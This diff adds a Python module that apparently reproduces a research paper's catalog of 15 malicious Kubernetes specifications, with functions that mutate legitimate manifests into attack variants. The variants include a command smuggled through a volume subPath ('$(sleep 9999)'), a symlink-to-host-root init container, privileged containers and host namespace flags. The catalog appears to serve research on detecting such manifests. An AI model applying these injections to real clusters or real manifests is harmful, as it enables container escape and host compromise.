@@ -1,0 +1,286 @@
+"""Table II: the catalog of 15 malicious K8s specifications.
+
+Eight CVE exploits (E1-E8) and seven misconfigurations (M1-M7).  Each
+entry names the targeted API field(s), references its source (CVE or
+the NSA/CISA hardening guide), declares which resource kinds it can be
+injected into, and carries an executable ``inject`` function that
+mutates a legitimate manifest into its malicious variant -- exactly how
+the paper constructs its attack manifests (Fig. 10).
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from typing import Any, Callable
+
+from repro.k8s.gvk import registry
+from repro.yamlutil import delete_path, get_path, set_path
+
+#: Kinds that embed a PodSpec (targets for pod-level injections).
+WORKLOAD_KINDS = tuple(registry.workload_kinds())
+
+Injector = Callable[[dict[str, Any]], None]
+
+
+@dataclass(frozen=True)
+class AttackSpec:
+    """One malicious specification from the catalog."""
+
+    attack_id: str           # E1..E8 / M1..M7
+    title: str
+    targeted_fields: tuple[str, ...]
+    reference: str           # CVE id or guideline
+    kinds: tuple[str, ...]   # resource kinds supporting the malicious field
+    inject: Injector
+    category: str            # "cve" | "misconfig"
+
+    @property
+    def is_cve(self) -> bool:
+        return self.category == "cve"
+
+
+def _pod_spec_of(manifest: dict[str, Any]) -> dict[str, Any] | None:
+    kind = manifest.get("kind", "")
+    if kind not in registry:
+        return None
+    path = registry.by_kind(kind).pod_spec_path
+    if path is None:
+        return None
+    spec = get_path(manifest, path, None)
+    return spec if isinstance(spec, dict) else None
+
+
+def _first_container(manifest: dict[str, Any]) -> dict[str, Any] | None:
+    spec = _pod_spec_of(manifest)
+    if spec is None:
+        return None
+    containers = spec.get("containers") or []
+    return containers[0] if containers and isinstance(containers[0], dict) else None
+
+
+def _set_pod_flag(flag: str) -> Injector:
+    def inject(manifest: dict[str, Any]) -> None:
+        spec = _pod_spec_of(manifest)
+        if spec is not None:
+            spec[flag] = True
+
+    return inject
+
+
+def _set_container_field(path: str, value: Any) -> Injector:
+    def inject(manifest: dict[str, Any]) -> None:
+        container = _first_container(manifest)
+        if container is not None:
+            set_path(container, path, value)
+
+    return inject
+
+
+def _inject_external_ips(manifest: dict[str, Any]) -> None:
+    set_path(manifest, "spec.externalIPs", ["203.0.113.7"])
+
+
+def _inject_subpath(value: str) -> Injector:
+    def inject(manifest: dict[str, Any]) -> None:
+        spec = _pod_spec_of(manifest)
+        container = _first_container(manifest)
+        if spec is None or container is None:
+            return
+        mounts = container.setdefault("volumeMounts", [])
+        mounts.append(
+            {"name": "attack-vol", "mountPath": "/mnt/attack", "subPath": value}
+        )
+        volumes = spec.setdefault("volumes", [])
+        volumes.append({"name": "attack-vol", "emptyDir": {}})
+
+    return inject
+
+
+def _inject_symlink_init_container(manifest: dict[str, Any]) -> None:
+    """CVE-2021-25741-style symlink exchange: a busybox init container
+    symlinks / into a shared volume before the main container mounts it."""
+    spec = _pod_spec_of(manifest)
+    if spec is None:
+        return
+    init = spec.setdefault("initContainers", [])
+    init.append(
+        {
+            "name": "symlink-attack",
+            "image": "busybox",
+            "command": ["ln", "-s", "/", "/mnt/data/symlink-door"],
+        }
+    )
+
+
+def _remove_resource_limits(manifest: dict[str, Any]) -> None:
+    spec = _pod_spec_of(manifest)
+    if spec is None:
+        return
+    for group in ("containers", "initContainers"):
+        for container in spec.get(group) or []:
+            if isinstance(container, dict):
+                delete_path(container, "resources.limits")
+
+
+ATTACKS: tuple[AttackSpec, ...] = (
+    # -- CVE exploits ----------------------------------------------------
+    AttackSpec(
+        "E1",
+        "Activation of hostNetwork (CVE-2020-15257)",
+        ("hostNetwork",),
+        "CVE-2020-15257",
+        WORKLOAD_KINDS,
+        _set_pod_flag("hostNetwork"),
+        "cve",
+    ),
+    AttackSpec(
+        "E2",
+        "Abusing LoadBalancer or ExternalIPs (CVE-2020-8554)",
+        ("externalIPs",),
+        "CVE-2020-8554",
+        ("Service",),
+        _inject_external_ips,
+        "cve",
+    ),
+    AttackSpec(
+        "E3",
+        "Command injection via volume and volumeMounts (CVE-2023-3676)",
+        ("containers.volumeMounts.subPath", "containers.volumes.subPath"),
+        "CVE-2023-3676",
+        WORKLOAD_KINDS,
+        _inject_subpath("$(sleep 9999)/a"),
+        "cve",
+    ),
+    AttackSpec(
+        "E4",
+        "Mount subPath on a file o emptyDir (CVE-2017-1002101)",
+        ("containers.volumeMounts.subPath",),
+        "CVE-2017-1002101",
+        WORKLOAD_KINDS,
+        _inject_subpath("symlink-door"),
+        "cve",
+    ),
+    AttackSpec(
+        "E5",
+        "Absent Resource Limit (CVE-2019-11253)",
+        ("containers.resources.limits",),
+        "CVE-2019-11253",
+        WORKLOAD_KINDS,
+        _remove_resource_limits,
+        "cve",
+    ),
+    AttackSpec(
+        "E6",
+        "Symlink exchange allow host filesystem access (CVE-2021-25741)",
+        ("container.command",),
+        "CVE-2021-25741",
+        WORKLOAD_KINDS,
+        _inject_symlink_init_container,
+        "cve",
+    ),
+    AttackSpec(
+        "E7",
+        "Bypass of Seccomp Profile (CVE-2023-2431)",
+        ("containers.securityContext.seccompProfile.localhostProfile",),
+        "CVE-2023-2431",
+        WORKLOAD_KINDS,
+        _set_container_field(
+            "securityContext.seccompProfile",
+            {"type": "Localhost", "localhostProfile": ""},
+        ),
+        "cve",
+    ),
+    AttackSpec(
+        "E8",
+        "Privileged Containers (CVE-2021-21334)",
+        ("containers.securityContext.privileged",),
+        "CVE-2021-21334",
+        WORKLOAD_KINDS,
+        _set_container_field("securityContext.privileged", True),
+        "cve",
+    ),
+    # -- misconfigurations -------------------------------------------------
+    AttackSpec(
+        "M1",
+        "Activation of hostIPC",
+        ("hostIPC",),
+        "NSA/CISA Kubernetes Hardening Guide",
+        WORKLOAD_KINDS,
+        _set_pod_flag("hostIPC"),
+        "misconfig",
+    ),
+    AttackSpec(
+        "M2",
+        "Activation of hostPID",
+        ("hostPID",),
+        "NSA/CISA Kubernetes Hardening Guide",
+        WORKLOAD_KINDS,
+        _set_pod_flag("hostPID"),
+        "misconfig",
+    ),
+    AttackSpec(
+        "M3",
+        "Use Readonly Filesystem",
+        ("containers.securityContext.readOnlyRootFilesystem",),
+        "NSA/CISA Kubernetes Hardening Guide",
+        WORKLOAD_KINDS,
+        _set_container_field("securityContext.readOnlyRootFilesystem", False),
+        "misconfig",
+    ),
+    AttackSpec(
+        "M4",
+        "Running Containers as Root",
+        ("containers.securityContext.runAsNonRoot",),
+        "NSA/CISA Kubernetes Hardening Guide",
+        WORKLOAD_KINDS,
+        _set_container_field("securityContext.runAsNonRoot", False),
+        "misconfig",
+    ),
+    AttackSpec(
+        "M5",
+        "Allow Dangereous Capabilites to Containers",
+        ("containers.securityContext.capabilities.add",),
+        "NSA/CISA Kubernetes Hardening Guide",
+        WORKLOAD_KINDS,
+        _set_container_field("securityContext.capabilities", {"add": ["SYS_ADMIN", "NET_RAW"]}),
+        "misconfig",
+    ),
+    AttackSpec(
+        "M6",
+        "Escalated Privileges for Child Container Processes",
+        ("containers.securityContext.allowPrivilegeEscalation",),
+        "NSA/CISA Kubernetes Hardening Guide",
+        WORKLOAD_KINDS,
+        _set_container_field("securityContext.allowPrivilegeEscalation", True),
+        "misconfig",
+    ),
+    AttackSpec(
+        "M7",
+        "Custom SELinux user or role",
+        (
+            "containers.securityContext.seLinuxOptions.user",
+            "containers.securityContext.seLinuxOptions.role",
+        ),
+        "NSA/CISA Kubernetes Hardening Guide",
+        WORKLOAD_KINDS,
+        _set_container_field(
+            "securityContext.seLinuxOptions", {"user": "system_u", "role": "sysadm_r"}
+        ),
+        "misconfig",
+    ),
+)
+
+
+def cve_attacks() -> list[AttackSpec]:
+    return [a for a in ATTACKS if a.category == "cve"]
+
+
+def misconfig_attacks() -> list[AttackSpec]:
+    return [a for a in ATTACKS if a.category == "misconfig"]
+
+
+def get_attack(attack_id: str) -> AttackSpec:
+    for attack in ATTACKS:
+        if attack.attack_id == attack_id:
+            return attack
+    raise KeyError(f"unknown attack {attack_id!r}")
